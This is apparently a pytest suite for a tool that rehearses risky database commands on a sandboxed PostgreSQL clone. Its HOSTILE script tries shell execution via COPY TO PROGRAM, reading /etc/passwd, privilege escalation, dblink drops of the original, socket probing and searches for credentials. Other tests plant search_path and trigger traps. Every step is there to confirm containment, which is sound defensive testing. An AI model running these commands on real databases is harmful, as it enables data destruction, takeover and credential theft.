"""What is on a clone, what is left behind, and what a hostile script reaches from it: nothing."""

from __future__ import annotations

import glob
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from keyturn.adapter.postgres_clone import cloned
from keyturn.adapter.postgres_connect import Connection, of_text
from keyturn.adapter.postgres_server import PREFIX, sweep
from keyturn.adapter.rehearse_clone import CloneRehearser
from keyturn.errors import CouldNotJudge
from keyturn.rehearse.redirect import STAND_IN, Way, configuration, variables
from keyturn.rehearse.service import Silence
from tests.production import PASSWORD, action, production, rehearsed, rows

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.production import Production


@pytest.fixture(scope="module")
def real() -> Iterator[Production]:
    with production() as found:
        yield found


def here(real: Production) -> list[str]:
    """Directories of throw-away servers that this process made, but for the one that stands for production."""
    found = glob.glob(f"{os.path.dirname(real.server.socket)}/{PREFIX}{os.getpid()}-*")
    return [place for place in found if place != real.server.socket]


def psql(real: Production, database: str, rest: str) -> str:
    return f"psql -h 127.0.0.1 -p {real.port} -U app -d {database} {rest}"


HOSTILE = """
import os, pathlib, socket, subprocess, sys
url = os.environ["DATABASE_URL"]
def sql(text, address=url):
    done = subprocess.run(["psql", address, "-c", text], capture_output=True, text=True)
    print(done.returncode, text[:60], (done.stderr.strip().splitlines() or [""])[-1])
sql("copy (select 1) to program 'touch {mark}'")
sql("copy (select 1) to '{mark}'")
sql("create extension dblink")
sql("select dblink_exec('{original}', 'drop table precious')")
sql("create extension postgres_fdw")
sql("create subscription s connection '{original}' publication p")
sql("create language plpython3u")
sql("select pg_read_file('/etc/passwd')")
sql("alter role app superuser")
sql("set role pg_execute_server_program")
sql("grant pg_execute_server_program to app")
sql("create role evil superuser login")
sql("drop table precious")
# the original itself, over its port and its socket, with its password
sql("drop table precious", "{original}?hostaddr=10.255.255.1")
for path in ["{socket}", "/run/postgresql/.s.PGSQL.5432"]:
    one = socket.socket(socket.AF_UNIX)
    try:
        one.connect(path)
        print("socket", path, "answered")
    except OSError as error:
        print("socket", path, error)
for host, port in [("{listener}", {listener_port}), ("127.0.0.1", {listener_port})]:
    try:
        socket.create_connection((host, port), 1).sendall(b"secret")
        print("arrived")
    except OSError as error:
        print(host, error)
sql("select 1", url.replace("//app:", "//keyturn_super:"))
sql("drop database victim", url.rsplit("/", 1)[0] + "/postgres")
print("environment", [name for name, value in os.environ.items() if "{password}" in value or value == "AKIA-of-cloud"])
print("file", "{password}" in pathlib.Path(".env").read_text())
pathlib.Path("{mark}").write_text("written")
pathlib.Path.home().joinpath("stolen").write_text("x")
"""


class Listener:
    """Counts who comes to a port of this machine."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.came = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                self._socket.accept()
            except OSError:
                return
            self.came += 1

    def close(self) -> None:
        self._socket.close()


def test_a_hostile_script_reaches_nothing(real: Production, tmp_path: Path) -> None:
    url = real.database("victim", "create table precious(id int)", "insert into precious select generate_series(1, 9)")
    mark = tmp_path / "mark"
    listener = Listener()
    (tmp_path / ".env").write_text(f"DATABASE_URL={url}\nDB_PASSWORD={PASSWORD}\n", encoding="utf-8")
    text = HOSTILE
    for name, value in {
        "mark": str(mark),
        "original": url,
        "socket": f"{real.server.socket}/.s.PGSQL.{real.port}",
        "listener_port": str(listener.port),
        "listener": socket.gethostname(),
        "password": PASSWORD,
    }.items():
        text = text.replace("{" + name + "}", value)
    (tmp_path / "evil.py").write_text(text, encoding="utf-8")
    # judged as psql on the database; what runs beside it is the hostile script
    command = f"{psql(real, 'victim', '-c ' + repr('drop table nothing'))}; {sys.executable} evil.py"
    environment = {
        "PGPASSWORD": PASSWORD,
        "DATABASE_URL": url,
        "AWS_SECRET_ACCESS_KEY": "AKIA-of-cloud",
        "MY_OWN": "AKIA-of-cloud",
    }
    home = set(os.listdir(Path.home()))
    with real.untouched("victim"):
        report = rehearsed(command, tmp_path, environment)
    listener.close()
    assert listener.came == 0
    assert not mark.exists()
    assert set(os.listdir(Path.home())) == home
    assert "answered" not in report.output
    assert "arrived" not in report.output
    assert "environment []" in report.output, report.output
    assert "file False" in report.output
    for refused in ("copy (select 1) to program", "create extension dblink", "create role evil", "alter role app"):
        assert f"1 {refused}" in report.output, report.output
    assert "2 select 1 " in report.output, "nobody becomes the clone's superuser"
    # it did destroy, where it could: that is the answer
    assert "0 drop database victim" in report.output
    assert rows(report) == {"precious": (9, None)}
    assert here(real) == []


def test_dropping_the_database_is_shown_and_hits_the_clone_alone(real: Production, tmp_path: Path) -> None:
    url = real.database("victim", "create table precious(id int)", "insert into precious values (1)")
    command = psql(real, "postgres", "-c 'drop database victim'")
    (tmp_path / "drop.sql").write_text("\\c postgres\ndrop database victim;\n", encoding="utf-8")
    command = psql(real, "victim", "-f drop.sql")
    with real.untouched("victim"):
        report = rehearsed(command, tmp_path, {"PGPASSWORD": PASSWORD, "DATABASE_URL": url})
    assert rows(report) == {"precious": (1, None)}
    assert ("database", "victim", "dropped") in [(one.kind, one.name, one.change) for one in report.difference.things]


def test_code_of_the_original_never_runs_as_the_clones_superuser(real: Production, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    tmp_path.chmod(0o777)
    real.database(
        "trapped",
        "create table watched(id int)",
        "create function trap(x int) returns boolean language plpgsql as $$ begin "
        f"execute 'copy (select 1) to program ''touch {mark}'''; return true; "
        "exception when insufficient_privilege then return true; end $$",
        "insert into watched values (1)",
        "alter table watched add check (trap(id)) not valid",
        # functions that would stand in for those that a look calls
        "create schema evil",
        "create function evil.count() returns bigint language plpgsql as $$ begin "
        f"execute 'copy (select 1) to program ''touch {mark}'''; return 0; end $$",
        "create table plain(id int)",
    )
    (tmp_path / "x.sql").write_text(
        "alter database trapped set search_path = evil, public, pg_catalog; drop table plain;", encoding="utf-8"
    )
    with real.untouched("trapped"):
        report = rehearsed(psql(real, "trapped", "-f x.sql"), tmp_path, {"PGPASSWORD": PASSWORD})
    assert not mark.exists()
    assert rows(report) == {"plain": (0, None)}


def test_what_reaches_out_is_left_behind_and_said(real: Production, tmp_path: Path) -> None:
    import psycopg

    real.database("reaching", "create table t(id int)", "insert into t values (1)")
    with psycopg.connect(real.server.address("reaching"), password=real.server.password, autocommit=True) as link:
        for text in (
            "create extension postgres_fdw",
            "create server elsewhere foreign data wrapper postgres_fdw options (host '127.0.0.1')",
            "create user mapping for app server elsewhere options (user 'app', password 'hidden-password')",
            "create foreign table away(id int) server elsewhere",
            "alter foreign table away owner to app",
            "create publication everything for all tables",
            "create function deny() returns event_trigger language plpgsql as $$ begin raise 'no'; end $$",
            "create event trigger guard on sql_drop execute function deny()",
            "create extension citext",
            "create table worded(w citext)",
            "alter table worded owner to app",
        ):
            link.execute(text)
    (tmp_path / "x.sql").write_text("drop table t; insert into worded values ('a');", encoding="utf-8")
    with real.untouched("reaching"):
        report = rehearsed(psql(real, "reaching", "-f x.sql"), tmp_path, {"PGPASSWORD": PASSWORD})
    assert rows(report) == {"t": (1, None), "worded": (0, 1)}, report
    said = " ".join(one.what for one in report.not_rehearsed)
    for part in ("extension postgres_fdw", "server", "foreign table", "event trigger"):
        assert part in said
    assert "hidden-password" not in repr(report)


def test_a_program_that_never_comes_to_the_clone_was_not_rehearsed(real: Production, tmp_path: Path) -> None:
    real.database("missed", "create table t(id int)")
    one = action(psql(real, "missed", "-f absent.sql -c 'drop table t'"), tmp_path, {"PGPASSWORD": PASSWORD})
    way = CloneRehearser(lambda _action, _target: True)
    with real.untouched("missed"), pytest.raises(CouldNotJudge, match="never came to the clone"):
        way.rehearse(
            type(one)("true", one.directory, one.environment, one.judgement, one.decision, (), 60.0), Silence()
        )
    assert here(real) == []


def test_too_large_is_refused_clearly(real: Production, tmp_path: Path) -> None:
    real.database("large", "create table t as select generate_series(1, 1000) as id")
    one = action(psql(real, "large", "-c 'drop table t'"), tmp_path, {"PGPASSWORD": PASSWORD})
    with pytest.raises(CouldNotJudge, match="GB"):
        CloneRehearser(lambda _action, _target: True, largest=1_000).rehearse(one, Silence())
    # without rows its size does not matter
    report = CloneRehearser(lambda _action, _target: False, largest=1_000).rehearse(one, Silence())
    assert rows(report) == {"t": (1000, None)}


def test_a_program_that_fills_the_disk_is_stopped(real: Production, tmp_path: Path) -> None:
    real.database("filled", "create table t(x text)")
    (tmp_path / "x.sql").write_text(
        "delete from t; insert into t "
        "select repeat(md5(b::text), 30) from generate_series(1, 3000) a, generate_series(1, 3000) b;",
        encoding="utf-8",
    )
    one = action(psql(real, "filled", "-f x.sql"), tmp_path, {"PGPASSWORD": PASSWORD})
    began = time.monotonic()
    with real.untouched("filled"), pytest.raises(CouldNotJudge, match="GB into the clone"):
        CloneRehearser(lambda _action, _target: True, largest=60_000_000).rehearse(one, Silence())
    assert time.monotonic() - began < 30
    assert here(real) == []


def test_the_way_to_the_clone_cannot_be_written_to(real: Production, tmp_path: Path) -> None:
    real.database("walled", "create table t(x int)")
    above = os.path.dirname(real.server.socket)
    place = f"$(dirname $(ls -d {above}/{PREFIX}{os.getpid()}-*/shared/request))"
    command = (
        f"{psql(real, 'walled', '-c ' + repr('drop table t'))}; touch {place}/x; rm -f {place}/.s.PGSQL.5432; true"
    )
    with real.untouched("walled"):
        report = rehearsed(command, tmp_path, {"PGPASSWORD": PASSWORD})
    assert report.output.count("Read-only file system") == 2
    assert rows(report) == {"t": (0, None)}


def test_rows_that_may_not_be_copied_are_not(real: Production) -> None:
    import psycopg

    url = real.database(
        "private", "create table people(name text)", "insert into people values ('Ada-Lovelace-of-1815'), ('Bo')"
    )
    with cloned(Connection(of_text(url), "test"), lambda _here: False) as clone:
        with psycopg.connect(clone.server.address("private", "app")) as link:
            assert link.execute("select count(*) from people").fetchone() == (0,)
            assert link.execute("select rolsuper, rolcreaterole from pg_roles where rolname = 'app'").fetchone() == (
                False,
                False,
            )
        assert clone.counts == {"public.people": 2}
        files = subprocess.run(
            ["grep", "-rl", "Ada-Lovelace-of-1815", clone.server.data], capture_output=True, check=False, timeout=60
        ).stdout
        assert files == b""
    assert here(real) == []


def test_a_server_that_is_elsewhere_is_asked_about_as_such(real: Production) -> None:
    url = real.database("asked", "create table t(id int)")
    said: list[bool] = []

    def may(is_here: bool) -> bool:
        said.append(is_here)
        return False

    with cloned(Connection(of_text(url), "test"), may):
        assert said == [True]


KILLED = """
import sys
sys.path.insert(0, {root!r})
from keyturn.adapter.postgres_clone import cloned
from keyturn.adapter.postgres_connect import Connection, of_text
import time
with cloned(Connection(of_text({url!r}), "test"), lambda _here: True) as clone:
    print(clone.server.pid, clone.server.socket, flush=True)
    time.sleep(60)
"""


def test_killed_in_the_middle_it_leaves_nothing(real: Production) -> None:
    url = real.database("killed", "create table t(id int)")
    root = str(Path(__file__).resolve().parents[2] / "src")
    with subprocess.Popen(
        [sys.executable, "-c", KILLED.format(root=root, url=url)], stdout=subprocess.PIPE, text=True
    ) as one:
        assert one.stdout is not None
        pid, place = one.stdout.readline().split()
        one.send_signal(signal.SIGKILL)
        one.wait(10)
    until = time.monotonic() + 10
    while os.path.exists(f"/proc/{pid}") and time.monotonic() < until:
        time.sleep(0.05)
    assert not os.path.exists(f"/proc/{pid}")
    assert place in sweep() or not os.path.exists(place)
    assert not os.path.exists(place)


WAY = Way("db.example.com", 5432, "shop", "app", "hunter2-long")


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("postgres://app:hunter2-long@db.example.com/shop", f"postgres://app:{STAND_IN}@127.0.0.1:5432/shop"),
        (
            "postgresql+psycopg://app:x@db.example.com:5432/shop?sslmode=require&schema=public",
            f"postgresql+psycopg://app:{STAND_IN}@127.0.0.1:5432/shop?schema=public",
        ),
        (
            "jdbc:postgresql://db.example.com/shop?user=app&password=q",
            f"jdbc:postgresql://127.0.0.1:5432/shop?user=app&password={STAND_IN}",
        ),
        ("postgres://app@other.example.com/shop", "postgres://app@other.example.com/shop"),
        ("postgres://app@db.example.com:6000/shop", "postgres://app@db.example.com:6000/shop"),
        ("mysql://db.example.com/shop", "mysql://db.example.com/shop"),
    ],
)
def test_addresses_of_the_original_are_turned_and_no_others(given: str, expected: str) -> None:
    assert WAY.text(given) == expected


def test_settings_are_turned() -> None:
    text = "export DB_HOST=db.example.com\nDB_PASSWORD='hunter2-long'\nURL=postgres://app:hunter2-long@db.example.com/shop\n"
    found = configuration(".env", text, WAY)
    assert "db.example.com" not in found
    assert "hunter2" not in found
    ini = "x = %(here)s\nsqlalchemy.url = postgresql://app:a%%40b@db.example.com/shop\n"
    assert "%(here)s" in configuration("alembic.ini", "x = %(here)s\n", WAY)
    assert "127.0.0.1" in configuration("alembic.ini", ini, WAY)


def test_no_credential_and_no_sign_of_an_agent_is_passed_on() -> None:
    given = {
        "PATH": "/usr/bin",
        "CLAUDECODE": "1",
        "CURSOR_AGENT": "1",
        "AWS_SECRET_ACCESS_KEY": "k" * 40,
        "PGPASSWORD": "hunter2-long",
        "PGSERVICE": "prod",
        "DB_PASSWORD": "hunter2-long",
        "DB_HOST": "db.example.com",
        "DB_NAME": "shop",
        "OTHER_URL": "postgres://root:toor-toor@other.example.com/db",
        "DATABASE_URL": "postgres://app:hunter2-long@db.example.com/shop",
        "PRISMA_USER_CONSENT_FOR_DANGEROUS_AI_ACTION": "yes",
    }
    found, kept_back = variables(given, WAY)
    assert "hunter2-long" not in repr(found)
    assert not {"CLAUDECODE", "CURSOR_AGENT", "AWS_SECRET_ACCESS_KEY", "PGSERVICE", "OTHER_URL"} & found.keys()
    assert found["DB_HOST"] == found["PGHOSTADDR"] == "127.0.0.1"
    assert found["DB_NAME"] == "shop"
    assert "OTHER_URL" in kept_back


RICH = (
    "create schema app",
    "create type app.mood as enum ('sad', 'glad')",
    "create domain app.positive as int check (value > 0)",
    """create table app.people(id int generated always as identity primary key, mood app.mood, n app.positive,
    boss int references app.people, twice int generated always as (n * 2) stored)""",
    "insert into app.people(mood, n, boss) select 'glad', g, 1 from generate_series(1, 40) g",
    "create table app.events(at date not null, what text) partition by range (at)",
    "create table app.events_2026 partition of app.events for values from ('2026-01-01') to ('2027-01-01')",
    "create table app.events_rest partition of app.events default",
    "insert into app.events select date '2026-03-01' + g, 'x' from generate_series(1, 400) g",
    "create materialized view app.sums as select sum(n) from app.people",
    'create table app."Odd Name.With Dot"("Col ""x""" int)',
    'insert into app."Odd Name.With Dot" values (1), (2)',
    "alter table app.people enable row level security",
    "create policy own on app.people to app using (true)",
    "create function app.touch() returns trigger language plpgsql as $$ begin return new; end $$",
    "create trigger touched before update on app.people for each row execute function app.touch()",
    "comment on table app.people is 'people'",
    "create view app.glad as select * from app.people where mood = 'glad'",
    "create rule none as on delete to app.glad do instead nothing",
    "select lo_from_bytea(0, 'large')",
    "create aggregate app.total(int) (sfunc = int4pl, stype = int, initcond = '0')",
    "grant select on app.people to public",
)


@pytest.mark.parametrize("user", ["app", "postgres"])
def test_a_rich_schema_is_cloned_whole(real: Production, tmp_path: Path, user: str) -> None:
    import psycopg

    real.database("rich", *RICH)
    with psycopg.connect(real.server.address(), password=real.server.password, autocommit=True) as link:
        if not link.execute("select 1 from pg_roles where rolname = 'postgres'").fetchone():
            link.execute(f"create role postgres superuser login password '{PASSWORD}'")
    (tmp_path / "x.sql").write_text("drop schema app cascade;", encoding="utf-8")
    command = f"psql -h 127.0.0.1 -p {real.port} -U {user} -d rich -f x.sql"
    with real.untouched("rich"):
        report = rehearsed(command, tmp_path, {"PGPASSWORD": PASSWORD})
    assert [one.what for one in report.not_rehearsed] in ([], ["1 large objects"])
    assert rows(report) == {
        "app.events": (0, None),
        "app.events_2026": (305, None),
        "app.events_rest": (95, None),
        "app.people": (40, None),
        "app.Odd Name.With Dot": (2, None),
    }
    gone = {one.name for one in report.difference.things if one.change == "dropped"}
    assert {"app.sums", "app.glad", "app", "app.mood"} <= gone


def test_an_original_behind_a_unix_socket(real: Production, tmp_path: Path) -> None:
    real.database("socketed", "create table t(id int)", "insert into t values (1)")
    environment = {"PGHOST": real.server.socket, "PGPORT": str(real.port), "PGUSER": "app", "PGDATABASE": "socketed"}
    (tmp_path / "x.sql").write_text("delete from t;", encoding="utf-8")
    with real.untouched("socketed"):
        report = rehearsed("psql -f x.sql", tmp_path, environment)
    assert rows(report) == {"t": (1, 0)}


MIDDLE = """
import sys
sys.path[:0] = [{root!r}, {root!r} + "/src"]
from pathlib import Path
from tests.production import rehearsed
rehearsed({command!r}, Path({place!r}), {{"PGPASSWORD": {password!r}}})
"""


def test_killed_while_the_program_runs_everything_of_it_ends(real: Production, tmp_path: Path) -> None:
    real.database("middle", "create table t(id int)", "insert into t values (1)")
    command = f"{psql(real, 'middle', '-c ' + repr('drop table t'))}; exec sleep 71.25"
    text = MIDDLE.format(
        root=str(Path(__file__).resolve().parents[2]), command=command, place=str(tmp_path), password=PASSWORD
    )

    def running() -> list[str]:
        found = []
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                words = Path(path).read_bytes().split(b"\0")
            except OSError:
                continue
            if b"71.25" in words or any(f"{PREFIX}{one.pid}-".encode() in word for word in words):
                found.append(path)
        return found

    with real.untouched("middle"):
        with subprocess.Popen([sys.executable, "-c", text], stderr=subprocess.DEVNULL) as one:
            until = time.monotonic() + 30
            while not any(b"71.25" in Path(path).read_bytes() for path in running()) and time.monotonic() < until:
                time.sleep(0.05)
            assert len(running()) >= 2
            one.send_signal(signal.SIGKILL)
            one.wait(10)
        until = time.monotonic() + 15
        while running() and time.monotonic() < until:
            time.sleep(0.05)
        assert running() == []
        assert [place for place in sweep() if f"-{one.pid}-" in place]
    assert glob.glob(f"{os.path.dirname(real.server.socket)}/{PREFIX}{one.pid}-*") == []


@pytest.mark.parametrize("copied", ["copy", "schema"])
def test_what_a_function_empties_and_what_it_may_delete(real: Production, tmp_path: Path, copied: str) -> None:
    url = real.database(
        "hiding",
        "create table orders(id int)",
        "insert into orders select generate_series(1, 40)",
        "create table other(id int)",
        "insert into other values (1)",
        "create function emptied() returns int language plpgsql as $$ begin truncate orders; return 1; end $$",
        "create function purged() returns int language plpgsql as $$ begin delete from other; return 1; end $$",
        "create table quiet(id int)",
    )
    (tmp_path / "x.sql").write_text("insert into quiet values (1); select emptied(); select purged();")
    command = psql(real, "hiding", "-f x.sql")
    one = action(command, tmp_path, {"PGPASSWORD": PASSWORD, "DATABASE_URL": url}, rows=copied)
    way = CloneRehearser(lambda _action, _target: True, quiet=3.0)
    assert way.concerns(one)
    report = way.rehearse(one, Silence())
    found = {table.name: table for table in report.difference.tables}
    assert (found["public.orders"].before, found["public.orders"].deleted) == (40, 40)
    if copied == "copy":
        assert found["public.other"].deleted == 1
    else:
        left = {one.what: one.why for one in report.not_rehearsed}
        assert "purged()" in left["select purged();"]
        assert not any(what.startswith("insert") for what in left)
